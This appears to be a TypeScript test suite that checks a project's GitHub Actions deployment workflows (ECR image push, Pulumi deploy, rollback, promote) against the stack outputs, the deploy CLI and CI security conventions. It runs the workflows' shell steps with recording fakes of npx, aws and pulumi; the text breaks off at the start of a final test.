// The GitHub Actions workflows, checked against the rest of the project:
// - they name only stack outputs that index.ts really exports, and only driver
//   commands and flags that the CLI really has;
// - ecr-push keeps the CI design (OIDC, master + v*.*.*, no moving tags,
//   no secrets in build args, one image manifest, digest from the build);
// - deploy and rollback run the driver, gate on the policy pack, upload
//   evidence always and fail on drift;
// - their shell steps do what they say: each is run here under bash with the
//   step's env, a temporary $GITHUB_OUTPUT and a fake `npx`, `aws` or `pulumi`
//   where needed (the fakes record their arguments);
// - every job that deploys writes its job summary with scripts/job-summary.ts,
//   run here for real from the repository root, and takes its environment's
//   URL from it; every job that starts node gets the one .nvmrc names.
// actionlint (scripts/test.sh) checks the syntax and expressions.
import * as assert from "assert";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { USAGE } from "../../automation/cli/main";
import { COMMANDS, COMMON_FLAGS } from "../../automation/cli/commandTable";
import { parseDuration } from "../../components/duration";
import { validateTag } from "../../automation/record/tags";
import { resolveGithubSettings } from "../../components/githubIdentitySettings";
import { jobSummary, SummaryEvidence } from "../../scripts/job-summary";
import * as yaml from "js-yaml";

const ROOT = path.resolve(__dirname, "..", "..");
const WORKFLOWS = path.join(ROOT, ".github", "workflows");

interface Step {
    name?: string;
    id?: string;
    uses?: string;
    run?: string;
    if?: string;
    with?: Record<string, unknown>;
    env?: Record<string, string>;
}
interface Job {
    "runs-on": string;
    environment?: string | { name: string; url?: string };
    permissions?: Record<string, string>;
    env?: Record<string, string>;
    steps: Step[];
}
interface Workflow {
    name: string;
    on: Record<string, any>;
    permissions?: Record<string, string>;
    env?: Record<string, string>;
    jobs: Record<string, Job>;
}

function readWorkflow(file: string): { text: string; workflow: Workflow } {
    const text = fs.readFileSync(path.join(WORKFLOWS, file), "utf8");
    return { text, workflow: yaml.load(text) as Workflow };
}

function onlyJob(workflow: Workflow): Job {
    const jobs = Object.values(workflow.jobs);
    assert.strictEqual(jobs.length, 1, "one job per workflow");
    return jobs[0];
}

function allJobs(workflow: Workflow): Job[] {
    return Object.values(workflow.jobs);
}

function stepIndex(job: Job, predicate: (step: Step) => boolean, what: string): number {
    const index = job.steps.findIndex(predicate);
    assert.notStrictEqual(index, -1, `no step ${what}`);
    return index;
}

const usesAction = (action: string) => (step: Step) => step.uses?.split("@")[0] === action;
const runs = (pattern: RegExp) => (step: Step) => step.run !== undefined && pattern.test(step.run);

/** `export const <name>` lines of index.ts: the stack's outputs. */
function stackOutputs(): Set<string> {
    const indexPath = path.join(ROOT, "index.ts");
    assert.ok(fs.existsSync(indexPath), "index.ts (the stack program) is missing; the workflows depend on its outputs");
    const names = [...fs.readFileSync(indexPath, "utf8").matchAll(/^export const (\w+)/gm)].map((m) => m[1]);
    return new Set(names);
}

/** Repository/environment variables the workflows read, and the stack output each is set from (null: not an output). */
const VARIABLE_SOURCES: Record<string, string | null> = {
    ECR_PUSH_ROLE_ARN: "pushRoleArn",
    ECR_REPOSITORY: "repositoryName",
    DEPLOY_ROLE_ARN: "deployRoleArn",
    AWS_REGION: null,
    PULUMI_BACKEND_URL: null,
};

const WORKFLOW_FILES = ["ecr-push.yml", "deploy.yml", "rollback.yml", "promote.yml"];

// ---------------------------------------------------------------------------
// Running a step's script.

interface StepRun {
    readonly status: number | null;
    readonly stdout: string;
    readonly outputs: Record<string, string>;
    readonly dir: string;
    /** Arguments the fake `npx` got, one per line, or undefined if it was not called. */
    readonly npxArgs?: string[];
}

/** Parses $GITHUB_OUTPUT: `key=value` lines and `key<<DELIM` … `DELIM` blocks. */
function parseOutputs(text: string): Record<string, string> {
    const outputs: Record<string, string> = {};
    const lines = text.split("\n");
    for (let i = 0; i < lines.length; i++) {
        const heredoc = /^([^=<]+)<<(.+)$/.exec(lines[i]);
        if (heredoc) {
            const end = lines.indexOf(heredoc[2], i + 1);
            outputs[heredoc[1]] = lines.slice(i + 1, end).join("\n");
            i = end;
        } else if (lines[i].includes("=")) {
            outputs[lines[i].slice(0, lines[i].indexOf("="))] = lines[i].slice(lines[i].indexOf("=") + 1);
        }
    }
    return outputs;
}

/**
 * Runs `script` as GitHub runs a `run:` step on Linux (`bash -e`), in a fresh directory prepared by
 * `prepare`, with `env`. A fake `npx` on PATH records its arguments and exits with `npxExit`.
 */
function runStep(script: string, env: Record<string, string>, options: { npxExit?: number; prepare?: (dir: string) => void } = {}): StepRun {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "papyrus-step-"));
    try {
        const bin = path.join(dir, ".bin");
        fs.mkdirSync(bin);
        const npxArgsFile = path.join(dir, ".npx-args");
        fs.writeFileSync(path.join(bin, "npx"), `#!/bin/sh\nprintf '%s\\n' "$@" > "${npxArgsFile}"\necho '{"fake": true}'\nexit ${options.npxExit ?? 0}\n`, {
            mode: 0o755,
        });
        const outputFile = path.join(dir, ".github-output");
        fs.writeFileSync(outputFile, "");
        options.prepare?.(dir);
        const result = spawnSync("bash", ["--noprofile", "--norc", "-e", "-c", script], {
            cwd: dir,
            env: {
                PATH: `${bin}${path.delimiter}${process.env.PATH ?? ""}`,
                GITHUB_OUTPUT: outputFile,
                GITHUB_STEP_SUMMARY: path.join(dir, ".step-summary"),
                RUNNER_TEMP: dir,
                ...env,
            },
            encoding: "utf8",
        });
        return {
            status: result.status,
            stdout: result.stdout + result.stderr,
            outputs: parseOutputs(fs.readFileSync(outputFile, "utf8")),
            dir,
            npxArgs: fs.existsSync(npxArgsFile) ? fs.readFileSync(npxArgsFile, "utf8").trimEnd().split("\n") : undefined,
        };
    } finally {
        // Callers that need files from `dir` read them in `prepare` or from the result before this runs.
        cleanupLater.push(dir);
    }
}
const cleanupLater: string[] = [];
after(() => cleanupLater.forEach((dir) => fs.rmSync(dir, { recursive: true, force: true })));

// ---------------------------------------------------------------------------

describe("workflows: stack outputs, variables and driver commands", () => {
    it("name only variables whose source is known, and each stack output they name is exported by index.ts", () => {
        const outputs = stackOutputs();
        for (const output of ["repositoryUrl", "repositoryName", "pushRoleArn", "deployRoleArn"]) {
            assert.ok(outputs.has(output), `index.ts does not export \`${output}\``);
        }
        for (const file of WORKFLOW_FILES) {
            const { text } = readWorkflow(file);
            for (const [, variable] of text.matchAll(/\bvars\.(\w+)/g)) {
                assert.ok(variable in VARIABLE_SOURCES, `${file} reads vars.${variable}, which docs/CI.md and this test do not know`);
                const output = VARIABLE_SOURCES[variable];
                if (output !== null) {
                    assert.ok(outputs.has(output), `${file}: vars.${variable} is documented as the stack output \`${output}\`, which index.ts does not export`);
                    assert.match(
                        text,
                        new RegExp(`${variable}\\s.*pulumi stack output ${output}\\b`),
                        `${file} must say where ${variable} comes from (\`pulumi stack output ${output}\`)`,
                    );
                }
            }
        }
    });

    it("`pulumi stack output <name>` in the workflows and docs/CI.md names an exported output", () => {
        const outputs = stackOutputs();
        const texts = [...WORKFLOW_FILES.map((f) => [f, readWorkflow(f).text]), ["docs/CI.md", fs.readFileSync(path.join(ROOT, "docs", "CI.md"), "utf8")]];
        let seen = 0;
        for (const [file, text] of texts) {
            for (const [, name] of text.matchAll(/pulumi stack output (\w+)/g)) {
                seen++;
                assert.ok(outputs.has(name), `${file} names \`pulumi stack output ${name}\`, which index.ts does not export`);
            }
        }
        assert.ok(seen >= 5, `expected the workflows and docs to name their outputs, found ${seen}`);
    });

    it("use only papyrus-deploy commands and the flags each command takes, through this repository's own bin", () => {
        // kills: a workflow passing a flag of another command (the CLI refuses it since flags are per command)
        const cli = new Set([...USAGE.matchAll(/^ {2}papyrus-deploy (\w+)/gm)].map((m) => m[1]));
        assert.deepStrictEqual([...cli].sort(), [
            "abort",
            "approve",
            "deploy",
            "history",
            "promote",
            "reconcile",
            "rollback",
            "status",
            "unlock",
            "up",
            "verify",
        ]);
        const commands = cli;
        const flagsOf = (command: string) =>
            new Set(
                [...Object.keys(cli.has(command) ? COMMANDS[command as keyof typeof COMMANDS].flags : {}), ...Object.keys(COMMON_FLAGS)].map((f) => `--${f}`),
            );
        const used: string[] = [];
        for (const file of WORKFLOW_FILES) {
            const { workflow } = readWorkflow(file);
            for (const step of allJobs(workflow)
                .flatMap((job) => job.steps)
                .filter(runs(/papyrus-deploy/))) {
                // Invocation lines, and the lines that build an argument array for one.
                const lines = step.run!.split("\n").filter((l) => /^\s*npx |^\s*args=\(|^\s*\[ .*args\+=\(/.test(l));
                for (const line of lines) {
                    if (/^\s*npx /.test(line)) {
                        assert.match(line, /^\s*npx --no-install papyrus-deploy /, `${file}: run the local bin with \`npx --no-install\`: ${line.trim()}`);
                    }
                    const command = /papyrus-deploy (\w+)/.exec(line)?.[1] ?? /args=\((\w+)/.exec(line)?.[1] ?? /args=\((\w+)/.exec(step.run!)?.[1];
                    if (command === undefined) continue;
                    assert.ok(commands.has(command), `${file} runs \`papyrus-deploy ${command}\`, which the CLI does not have`);
                    used.push(command);
                    for (const [flag] of line.matchAll(/(?<=[\s(])--[a-z][a-z-]*/g)) {
                        if (flag !== "--no-install") {
                            assert.ok(
                                flagsOf(command).has(flag),
                                `${file} passes ${flag} to \`${command}\`, which \`papyrus-deploy ${command} --help\` does not list`,
                            );
                        }
                    }
                }
            }
        }
        assert.deepStrictEqual([...new Set(used)].sort(), ["approve", "deploy", "history", "promote", "rollback", "verify"]);
    });

    it("pass inputs and expressions to scripts through env:, never inline in run:", () => {
        for (const file of WORKFLOW_FILES) {
            const { workflow } = readWorkflow(file);
            for (const step of allJobs(workflow)
                .flatMap((job) => job.steps)
                .filter((s) => s.run !== undefined)) {
                assert.ok(!step.run!.includes("${{"), `${file}, step "${step.name}": \`\${{ }}\` inside run:`);
            }
        }
    });

    it("pin every action to a commit SHA with its version, or at least a major version tag", () => {
        let pinned = 0;
        for (const file of WORKFLOW_FILES) {
            const { text } = readWorkflow(file);
            for (const [line, ref] of text.matchAll(/uses: [\w.-]+\/[\w.-]+@(\S+).*$/gm)) {
                if (/^[0-9a-f]{40}$/.test(ref)) {
                    assert.match(line, /# v\d+\.\d+\.\d+$/, `${file}: a SHA pin needs its version in a comment: ${line}`);
                    pinned++;
                } else {
                    assert.match(ref, /^v\d+$/, `${file}: \`${line}\` is neither a commit SHA nor a major version`);
                }
            }
        }
        assert.ok(pinned >= 10, `expected most actions pinned by SHA, found ${pinned}`);
    });
});

describe("ecr-push.yml", () => {
    const { text, workflow } = readWorkflow("ecr-push.yml");
    const job = onlyJob(workflow);
    const step = (name: string) => job.steps[stepIndex(job, (s) => s.name === name, `named "${name}"`)];

    it("runs on pushes to master and v*.*.* tags, and nothing else", () => {
        assert.deepStrictEqual(workflow.on, { push: { branches: ["master"], tags: ["v*.*.*"] } });
    });

    it("may request an OIDC token and read the code, nothing more", () => {
        assert.deepStrictEqual(workflow.permissions, { "id-token": "write", contents: "read" });
        assert.strictEqual(job.permissions, undefined);
    });

    it("never mentions `latest` (no moving tag, no moving runner image)", () => {
        assert.doesNotMatch(text, /latest/i);
    });

    it("assumes the push role from vars.ECR_PUSH_ROLE_ARN, then logs in to ECR", () => {
        const credentials = stepIndex(job, usesAction("aws-actions/configure-aws-credentials"), "configuring AWS credentials");
        assert.strictEqual(job.steps[credentials].with?.["role-to-assume"], "${{ vars.ECR_PUSH_ROLE_ARN }}");
        assert.ok(!("aws-access-key-id" in (job.steps[credentials].with ?? {})), "no long-lived keys");
        assert.ok(stepIndex(job, usesAction("aws-actions/amazon-ecr-login"), "logging in to ECR") > credentials);
    });

    it("builds with BuildKit: one platform, one image manifest, secrets through `secrets:`, tag from the tag step", () => {
        const build = job.steps[stepIndex(job, usesAction("docker/build-push-action"), "building")];
        assert.ok(stepIndex(job, usesAction("docker/setup-buildx-action"), "setting up buildx") < job.steps.indexOf(build));
        assert.strictEqual(build.id, "build");
        assert.strictEqual(build.with?.push, true);
        assert.strictEqual(build.with?.provenance, false);
        assert.strictEqual(build.with?.sbom, false);
        assert.doesNotMatch(String(workflow.env?.PLATFORM), /,/, "a single platform");
        assert.strictEqual(build.with?.platforms, "${{ env.PLATFORM }}");
        assert.strictEqual(build.with?.context, "${{ env.BUILD_CONTEXT }}");
        assert.strictEqual(workflow.env?.BUILD_CONTEXT, "examples/app");
        assert.strictEqual(build.with?.tags, "${{ steps.ecr.outputs.registry }}/${{ vars.ECR_REPOSITORY }}:${{ steps.tag.outputs.image-tag }}");
        assert.match(String(build.with?.secrets), /^npm_token=\$\{\{ secrets\.NPM_TOKEN \}\}$/m);
        assert.strictEqual(build.with?.["build-args"], "${{ steps.tag.outputs.build-args }}");
    });

    it("lints the Dockerfile with scripts/lint-dockerfile.ts before any AWS call, and a broken rule fails the run", function () {
        // kills: a lint step moved after the build, pointed at another file, skipped (`if:`) or made non-fatal (`|| true`)
        this.timeout(60_000);
        const lintIndex = stepIndex(job, runs(/scripts\/lint-dockerfile\.ts/), "running scripts/lint-dockerfile.ts");
        const lint = job.steps[lintIndex] as Step & { "continue-on-error"?: unknown };
        assert.deepStrictEqual([lint.if, lint["continue-on-error"]], [undefined, undefined], "the lint step runs on every push and fails the job");
        assert.ok(stepIndex(job, usesAction("actions/setup-node"), "setting up node") < lintIndex);
        assert.ok(stepIndex(job, runs(/^npm ci\b/), "running npm ci") < lintIndex);
        assert.ok(lintIndex < stepIndex(job, usesAction("aws-actions/configure-aws-credentials"), "configuring AWS credentials"));
        assert.ok(lintIndex < stepIndex(job, usesAction("docker/build-push-action"), "building"));
        const script = job.steps[lintIndex].run!;
        const env = { BUILD_CONTEXT: String(workflow.env?.BUILD_CONTEXT) };

        // The exact command, and its exit code passed on.
        const faked = runStep(script, env, { npxExit: 1 });
        assert.deepStrictEqual(faked.npxArgs, ["--no-install", "ts-node", "--transpile-only", "scripts/lint-dockerfile.ts", "examples/app/Dockerfile"]);
        assert.strictEqual(faked.status, 1);

        // The step for real, from the repository root as the runner runs it: the example passes, a broken Dockerfile fails.
        const runHere = (buildContext: string) =>
            spawnSync("bash", ["--noprofile", "--norc", "-e", "-c", script], {
                cwd: ROOT,
                env: { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? "", BUILD_CONTEXT: buildContext },
                encoding: "utf8",
            });
        const example = runHere(env.BUILD_CONTEXT);
        assert.strictEqual(example.status, 0, example.stderr);
        const broken = fs.mkdtempSync(path.join(os.tmpdir(), "papyrus-context-"));
        cleanupLater.push(broken);
        fs.writeFileSync(path.join(broken, "Dockerfile"), "FROM node:20-bookworm-slim\nUSER node\n");
        const refused = runHere(broken);
        assert.strictEqual(refused.status, 1);
        assert.match(refused.stderr, /Dockerfile: line 1: base image `node:20-bookworm-slim` is not pinned by digest/);
    });

    it("puts no secret-looking names or secret values in the build args", () => {
        const build = job.steps[stepIndex(job, usesAction("docker/build-push-action"), "building")];
        assert.doesNotMatch(String(build.with?.["build-args"]), /secrets\./);
        // The build args are written by the tag step; run it and read them back.
        const run = runStep(step("Choose the image tag and build args").run!, { REF_TYPE: "branch", REF_NAME: "master", COMMIT: "d".repeat(40) });
        assert.strictEqual(run.status, 0, run.stdout);
        const names = run.outputs["build-args"].split("\n").map((line) => line.split("=")[0]);
        assert.deepStrictEqual(names, ["APP_VERSION", "GIT_COMMIT"]);
        for (const name of names) {
            assert.doesNotMatch(name, /SECRET|TOKEN|PASSW|KEY|CREDENTIAL|AUTH|PRIVATE/i);
        }
    });

    it("tags a release with its version and anything else with the full commit SHA; refuses v*.*.* tags the driver would not deploy", () => {
        const script = step("Choose the image tag and build args").run!;
        const commit = "0123456789abcdef0123456789abcdef01234567";
        const release = runStep(script, { REF_TYPE: "tag", REF_NAME: "v1.20.3", COMMIT: commit });
        assert.strictEqual(release.status, 0, release.stdout);
        assert.strictEqual(release.outputs["image-tag"], "v1.20.3");
        assert.strictEqual(release.outputs["build-args"], `APP_VERSION=v1.20.3\nGIT_COMMIT=${commit}`);
        const master = runStep(script, { REF_TYPE: "branch", REF_NAME: "master", COMMIT: commit });
        assert.strictEqual(master.outputs["image-tag"], commit);
        const rc = runStep(script, { REF_TYPE: "tag", REF_NAME: "v1.2.3-rc1", COMMIT: commit });
        assert.strictEqual(rc.status, 1);
        assert.match(rc.stdout, /::error::tag 'v1\.2\.3-rc1' is not vMAJOR\.MINOR\.PATCH/);
        assert.deepStrictEqual(rc.outputs, {});
    });

    it("takes the digest from the build step's outputs.digest and checks that ECR stored a single manifest with it", () => {
        const stored = step("Check what ECR stored (digest and manifest type)");
        assert.strictEqual(stored.env?.DIGEST, "${{ steps.build.outputs.digest || steps.existing.outputs.digest }}");
        assert.ok(job.steps.indexOf(stored) > stepIndex(job, usesAction("docker/build-push-action"), "building"));
        // With a fake `aws` answering like ECR, the step accepts a manifest and refuses an index.
        const digest = "sha256:" + "e".repeat(64);
        const withAws = (answer: string) => (dir: string) =>
            fs.writeFileSync(path.join(dir, ".bin", "aws"), `#!/bin/sh\nprintf '%s\\n' '${answer}'\n`, { mode: 0o755 });
        const env = { REPOSITORY: "papyrus-api", IMAGE_TAG: "v1.2.3", DIGEST: digest };
        const manifest = runStep(stored.run!, env, { prepare: withAws(`${digest}\tapplication/vnd.oci.image.manifest.v1+json`) });
        assert.strictEqual(manifest.status, 0, manifest.stdout);
        assert.deepStrictEqual(manifest.outputs, { digest, "media-type": "application/vnd.oci.image.manifest.v1+json" });
        const index = runStep(stored.run!, env, { prepare: withAws(`${digest}\tapplication/vnd.oci.image.index.v1+json`) });
        assert.strictEqual(index.status, 1);
        assert.match(index.stdout, /is 'application\/vnd\.oci\.image\.index\.v1\+json', not a single image manifest/);
        const other = runStep(stored.run!, env, { prepare: withAws(`sha256:${"f".repeat(64)}\tapplication/vnd.oci.image.manifest.v1+json`) });
        assert.strictEqual(other.status, 1);
        assert.match(other.stdout, /but the build reported sha256:e{64}/);
    });

    it("writes the evidence JSON (repository, tag, digest, build args, base image@digest, run identity) and uploads it", function () {
        if (spawnSync("jq", ["--version"]).status !== 0) {
            this.skip(); // jq is on every GitHub runner; without it here the step cannot run.
        }
        const evidence = step("Write the evidence");
        const digest = "sha256:" + "a".repeat(64);
        const run = runStep(
            evidence.run!,
            {
                BUILD_CONTEXT: "app",
                PLATFORM: "linux/amd64",
                REGISTRY: "123456789012.dkr.ecr.eu-west-1.amazonaws.com",
                REPOSITORY: "papyrus-api",
                IMAGE_TAG: "v1.2.3",
                IMAGE_DIGEST: digest,
                MEDIA_TYPE: "application/vnd.oci.image.manifest.v1+json",
                REUSED: "false",
                BUILD_ARG_LINES: "APP_VERSION=v1.2.3\nGIT_COMMIT=abc",
                COMMIT: "abc",
                REF: "refs/tags/v1.2.3",
                RUN_ID: "42",
                RUN_ATTEMPT: "2",
                RUN_URL: "https://github.com/acme/papyrus/actions/runs/42",
                ACTOR: "octocat",
                WORKFLOW: "ecr-push",
            },
            {
                prepare: (dir) => {
                    fs.mkdirSync(path.join(dir, "app"));
                    fs.copyFileSync(path.join(ROOT, "examples", "app", "Dockerfile"), path.join(dir, "app", "Dockerfile"));
                },
            },
        );
        assert.strictEqual(run.status, 0, run.stdout);
        const record = JSON.parse(fs.readFileSync(path.join(run.dir, "evidence", "ecr-push.json"), "utf8"));
        const baseImages = [...fs.readFileSync(path.join(ROOT, "examples", "app", "Dockerfile"), "utf8").matchAll(/^FROM (\S+)/gm)].map((m) => m[1]);
        assert.deepStrictEqual(
            { ...record, createdAt: "<time>" },
            {
                schema: "papyrus.push-evidence/v1",
                repository: "papyrus-api",
                repositoryUrl: "123456789012.dkr.ecr.eu-west-1.amazonaws.com/papyrus-api",
                imageTag: "v1.2.3",
                imageDigest: digest,
                image: `123456789012.dkr.ecr.eu-west-1.amazonaws.com/papyrus-api@${digest}`,
                imageManifestMediaType: "application/vnd.oci.image.manifest.v1+json",
                reusedExistingImage: false,
                platform: "linux/amd64",
                dockerfile: "app/Dockerfile",
                buildArgs: { APP_VERSION: "v1.2.3", GIT_COMMIT: "abc" },
                baseImages: [...new Set(baseImages)],
                commit: "abc",
                ref: "refs/tags/v1.2.3",
                runId: "42",
                runAttempt: "2",
                runUrl: "https://github.com/acme/papyrus/actions/runs/42",
                actor: "octocat",
                workflow: "ecr-push",
                createdAt: "<time>",
            },
        );
        assert.match(record.baseImages[0], /@sha256:[0-9a-f]{64}$/);
        assert.match(record.createdAt, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);

        const upload = job.steps[stepIndex(job, usesAction("actions/upload-artifact"), "uploading the evidence")];
        assert.strictEqual(upload.with?.path, "evidence/ecr-push.json");
        assert.strictEqual(upload.with?.["if-no-files-found"], "error");
    });
});

for (const [file, command] of [
    ["deploy.yml", "deploy"],
    ["rollback.yml", "rollback"],
] as const) {
    describe(file, () => {
        const { workflow } = readWorkflow(file);
        const job = workflow.jobs[command];
        const driverStep = stepIndex(
            job,
            runs(new RegExp(`args=\\(${command} [\\s\\S]*papyrus-deploy "\\$\\{args\\[@\\]\\}"`)),
            `running papyrus-deploy ${command}`,
        );

        it("is started by hand for dev or prod, and runs in the GitHub environment named like the stack", () => {
            const inputs = workflow.on.workflow_dispatch.inputs;
            assert.deepStrictEqual(inputs.stack, { description: inputs.stack.description, type: "choice", options: ["dev", "prod"], required: true });
            assert.deepStrictEqual(job.environment, { name: "${{ inputs.stack }}", url: "${{ steps.summary.outputs.url }}" });
            assert.deepStrictEqual(workflow.permissions, { "id-token": "write", contents: "read" });
        });

        it("serializes changes to one stack across deploy, rollback and promote", () => {
            const group = { group: "papyrus-stack-${{ inputs.stack }}", "cancel-in-progress": false };
            // deploy.yml holds the stack's group in its deploy job only: its approve job may wait for a reviewer after the deploy ended.
            assert.deepStrictEqual(command === "deploy" ? (job as any).concurrency : (workflow as any).concurrency, group);
            assert.strictEqual(command === "deploy" ? (workflow as any).concurrency : (job as any).concurrency, undefined);
            assert.deepStrictEqual((readWorkflow("promote.yml").workflow as any).concurrency, { ...group, group: "papyrus-stack-${{ inputs.to }}" });
        });

        it("assumes the deploy role from vars.DEPLOY_ROLE_ARN after installing Node deps and the Pulumi CLI", () => {
            const credentials = stepIndex(job, usesAction("aws-actions/configure-aws-credentials"), "configuring AWS credentials");
            assert.strictEqual(job.steps[credentials].with?.["role-to-assume"], "${{ vars.DEPLOY_ROLE_ARN }}");
            assert.ok(stepIndex(job, (s) => s.run === "npm ci", "running npm ci") < driverStep);
            assert.ok(stepIndex(job, usesAction("pulumi/actions"), "installing the Pulumi CLI") < driverStep);
            assert.ok(credentials < driverStep);
        });

        it("runs the Node.js that .nvmrc names, read after the checkout, as local runs do", () => {
            const setupNode = stepIndex(job, usesAction("actions/setup-node"), "setting up node");
            const node = job.steps[setupNode];
            assert.deepStrictEqual(node.with, { "node-version-file": ".nvmrc", cache: "npm" });
            assert.ok(stepIndex(job, usesAction("actions/checkout"), "checking out the repository") < setupNode, "setup-node reads .nvmrc from the checkout");
            // Every step that starts node (npm, npx, pulumi's language host) comes after it:
            // the runner's default Node.js is another version.
            const nodeSteps = job.steps.flatMap((s, i) => (s.run !== undefined && /(^|\s)(npm|npx|pulumi) /m.test(s.run) ? [i] : []));
            assert.ok(nodeSteps.length >= 2, "npm ci and papyrus-deploy run node");
            for (const i of nodeSteps) {
                assert.ok(i > setupNode, `step "${job.steps[i].name ?? job.steps[i].run}" runs before setup-node`);
            }
        });

        it("gives the passphrase only to the steps that run the engine", () => {
            assert.ok(!JSON.stringify(job.env ?? {}).includes("secrets."), "no secrets in the job-wide env");
            for (const s of job.steps) {
                if (s.env?.PULUMI_CONFIG_PASSPHRASE !== undefined) {
                    assert.match(String(s.run), /pulumi preview|papyrus-deploy/, `step "${s.name}" does not need the passphrase`);
                }
            }
            assert.strictEqual(job.steps[driverStep].env?.PULUMI_CONFIG_PASSPHRASE, "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}");
        });

        it(`uploads the evidence with if: always(), after papyrus-deploy ${command}`, () => {
            const upload = stepIndex(job, (s) => usesAction("actions/upload-artifact")(s) && String(s.with?.path).startsWith("evidence"), "uploading evidence");
            assert.strictEqual(job.steps[upload].if, "always()");
            assert.ok(upload > driverStep);
            assert.match(job.steps[driverStep].run!, new RegExp(`--evidence evidence/${command}\\.json --json`));
        });

        it("fails the job with an explicit message when the driver exits 6 (ECS rolled back, or drift), and passes its exit code on", () => {
            const script = job.steps[driverStep].run!;
            const env = { STACK: "prod", TAG: "v1.2.3", TO_VERSION: "", TO_TAG: "", TO_DIGEST: "" };
            const drift = runStep(script, env, { npxExit: 6 });
            assert.strictEqual(drift.status, 6);
            assert.match(drift.stdout, /::error::ECS ROLLED BACK or DRIFT \(exit 6\)/);
            assert.strictEqual(drift.outputs["exit-code"], "6");
            const busy = runStep(script, env, { npxExit: 4 });
            assert.strictEqual(busy.status, 4);
            assert.match(busy.stdout, /::error::the stack is being deployed by someone else \(exit 4\)/);
            const ok = runStep(script, env, { npxExit: 0 });
            assert.strictEqual(ok.status, 0, ok.stdout);
            assert.deepStrictEqual(JSON.parse(fs.readFileSync(path.join(ok.dir, "evidence", `${command}-result.json`), "utf8")), { fake: true });
        });
    });
}

describe("deploy.yml", () => {
    const { workflow } = readWorkflow("deploy.yml");
    const job = workflow.jobs.deploy;

    it("takes a required tag input", () => {
        assert.strictEqual(workflow.on.workflow_dispatch.inputs.tag.required, true);
        assert.strictEqual(workflow.on.workflow_dispatch.inputs.tag.type, "string");
    });

    describe("policy gate (run with a fake `pulumi` and `aws` that answer like the real ones and record their arguments)", () => {
        const gateIndex = stepIndex(job, runs(/pulumi preview --stack "\$STACK" --policy-pack policy\b/), "running the policy gate");
        const gate = job.steps[gateIndex];
        const REPOSITORY_URL = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/papyrus-api";
        const DIGEST = "sha256:" + "c".repeat(64);
        const CONFIG = "config:\n  aws:region: eu-west-1\n  papyrus:repositoryName: papyrus-api\n";

        /**
         * Runs the gate. The fake `pulumi` answers `stack output`, and on `preview` writes its `--config` values into
         * Pulumi.<stack>.yaml as the real CLI does, then exits `previewExit`; the fake `aws` prints `digest` or, when
         * it is undefined, fails as `describe-images` does for a missing tag. Each call is logged to `.calls`.
         */
        function runGate(options: { digest?: string; previewExit?: number; configFile?: boolean } = {}) {
            let calls: string[][] = [];
            let configAfter: string | undefined;
            const run = runStep(
                gate.run!,
                { STACK: "prod", TAG: "v1.2.3", PULUMI_CONFIG_PASSPHRASE: "x" },
                {
                    prepare: (dir) => {
                        const log = path.join(dir, ".calls");
                        const record = `printf '%s\\037' "$(basename "$0")" "$@" >> "${log}"; printf '\\n' >> "${log}"`;
                        fs.writeFileSync(
                            path.join(dir, ".bin", "pulumi"),
                            [
                                "#!/bin/bash",
                                record,
                                `if [ "$1 $2 $3" = "stack output repositoryUrl" ]; then echo "${REPOSITORY_URL}"; exit 0; fi`,
                                `if [ "$1 $2 $3" = "stack output repositoryName" ]; then echo papyrus-api; exit 0; fi`,
                                `if [ "$1" = "preview" ]; then echo "  changed: by preview --config" >> "Pulumi.$3.yaml"; exit ${options.previewExit ?? 0}; fi`,
                                "exit 99",
                            ].join("\n") + "\n",
                            { mode: 0o755 },
                        );
                        fs.writeFileSync(
                            path.join(dir, ".bin", "aws"),
                            [
                                "#!/bin/bash",
                                record,
                                options.digest === undefined
                                    ? `echo "An error occurred (ImageNotFoundException) when calling the DescribeImages operation" >&2; exit 254`
                                    : `echo "${options.digest}"`,
                            ].join("\n") + "\n",
                            { mode: 0o755 },
                        );
                        if (options.configFile !== false) {
                            fs.writeFileSync(path.join(dir, "Pulumi.prod.yaml"), CONFIG);
                        }
                    },
                },
            );
            if (fs.existsSync(path.join(run.dir, ".calls"))) {
                calls = fs
                    .readFileSync(path.join(run.dir, ".calls"), "utf8")
                    .trimEnd()
                    .split("\n")
                    .map((line) => line.split("\u001f").slice(0, -1));
            }
            if (fs.existsSync(path.join(run.dir, "Pulumi.prod.yaml"))) {
                configAfter = fs.readFileSync(path.join(run.dir, "Pulumi.prod.yaml"), "utf8");
            }
            return { ...run, calls, configAfter };
        }

        it("runs before the deploy, with the passphrase, the stack and the tag from the inputs", () => {
            // kills: a gate moved after the deploy, or fed another stack or tag than the deploy
            assert.ok(gateIndex < stepIndex(job, (s) => s.id === "deploy", "deploying"), "the gate runs before the deploy");
            assert.deepStrictEqual(gate.env, {
                STACK: "${{ inputs.stack }}",
                TAG: "${{ inputs.tag }}",
                PULUMI_CONFIG_PASSPHRASE: "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
            });
        });

        it("resolves the tag in the stack's own repository with one describe-images call and previews with exactly that digest", () => {
            // kills: a digest looked up in another repository or by another tag, or a preview with the tag instead of the digest
            const run = runGate({ digest: DIGEST });
            assert.strictEqual(run.status, 0, run.stdout);
            assert.deepStrictEqual(run.calls, [
                ["pulumi", "stack", "output", "repositoryUrl", "--stack", "prod"],
                ["pulumi", "stack", "output", "repositoryName", "--stack", "prod"],
                [
                    "aws",
                    "ecr",
                    "describe-images",
                    "--repository-name",
                    "papyrus-api",
                    "--image-ids",
                    "imageTag=v1.2.3",
                    "--query",
                    "imageDetails[0].imageDigest",
                    "--output",
                    "text",
                ],
                [
                    "pulumi",
                    "preview",
                    "--stack",
                    "prod",
                    "--policy-pack",
                    "policy",
                    "--non-interactive",
                    "--config",
                    `image=${REPOSITORY_URL}@${DIGEST}`,
                    "--config",
                    "imageTag=v1.2.3",
                ],
            ]);
        });

        it("puts the stack config back after the preview wrote to it, also when a policy fails the preview", () => {
            // kills: dropping the EXIT trap (the deploy would start from the gate's config), or restoring only on success
            const passed = runGate({ digest: DIGEST });
            assert.strictEqual(passed.configAfter, CONFIG);
            const violated = runGate({ digest: DIGEST, previewExit: 255 });
            assert.strictEqual(violated.status, 255, "a mandatory policy violation fails the step");
            assert.strictEqual(violated.configAfter, CONFIG);
        });

        it("exits 3 naming the repository and tag when the tag is not in ECR, and previews nothing", () => {
